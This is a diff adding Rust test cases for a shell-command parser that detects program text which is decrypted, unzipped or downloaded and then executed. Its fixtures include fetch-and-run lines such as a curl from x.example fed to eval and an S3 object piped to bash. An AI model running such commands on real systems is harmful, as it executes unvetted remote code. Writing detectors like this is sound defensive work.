@@ -487,6 +487,24 @@ fn program_text_received_or_decrypted_is_not_seen() {
         let p = parse(src);
         assert!(p.signals.iter().any(hidden), "{src}: {:?}", p.signals);
     }
+    // Held in a variable, or given to an interpreter as its program text.
+    for src in [
+        "x=$(openssl enc -d -aes-256-cbc -in p.enc -k k); bash -c \"$x\"",
+        "node -e \"$(unzip -p tools.zip run.js)\"",
+    ] {
+        let p = parse(src);
+        assert!(p.signals.iter().any(hidden), "{src}: {:?}", p.signals);
+    }
+    for src in [
+        "python3 <(aws s3 cp s3://jobs/train.py -)",
+        "c=$(curl -s https://x.example/p); eval \"$c\"",
+    ] {
+        let p = parse(src);
+        assert!(p.signals.iter().any(received), "{src}: {:?}", p.signals);
+    }
+    // Data given to a program is not its code.
+    let p = parse("python3 etl.py \"$(curl -s https://x.example/rows)\"");
+    assert!(!p.signals.iter().any(received), "{:?}", p.signals);
     // Copied from a bucket, a host, a repository or a container to stdout.
     for src in [
         "aws s3 cp s3://jobs/run.sh - | bash",
